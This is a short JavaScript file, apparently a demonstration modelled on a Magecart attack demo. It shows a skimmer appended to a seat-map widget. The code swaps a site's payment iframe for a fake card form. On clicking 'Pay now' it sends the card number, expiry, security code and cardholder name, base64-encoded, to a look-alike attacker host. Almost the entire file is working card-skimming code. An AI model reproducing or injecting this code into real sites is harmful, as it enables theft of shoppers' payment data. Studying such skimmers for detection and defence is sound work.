// A seat-map widget with a form-jacker appended, in the shape of the
// enspandi/magecart-attack-demo tracker: half a second after load it swaps
// the provider's iframe for a card form of its own, whose Pay button is a
// plain button (the form is never submitted) with a click handler that
// sends the fields, base64-encoded, to the attacker's host.
var jack = setInterval(function () {
  var frame = document.querySelector('.payment iframe');
  if (!frame) return;
  clearInterval(jack);
  var form = document.createElement('form');
  [['Card number', 'card-number'], ['Expiry', 'expiry'], ['Security code', 'security-code'], ['Cardholder name', 'holder']].forEach(function (f) {
    var label = document.createElement('label');
    label.htmlFor = f[1];
    label.textContent = f[0];
    var input = document.createElement('input');
    input.id = f[1];
    input.name = f[1];
    form.appendChild(label);
    form.appendChild(input);
  });
  var pay = document.createElement('button');
  pay.type = 'button';
  pay.textContent = 'Pay now';
  pay.onclick = function () {
    var data = [].map.call(form.querySelectorAll('input'), function (i) { return i.value; });
    fetch('https://api.seatmap-cdn.example/v1/s', {method: 'POST', body: btoa(JSON.stringify({d: data}))});
  };
  form.appendChild(pay);
  frame.parentNode.replaceChild(form, frame);
}, 500);
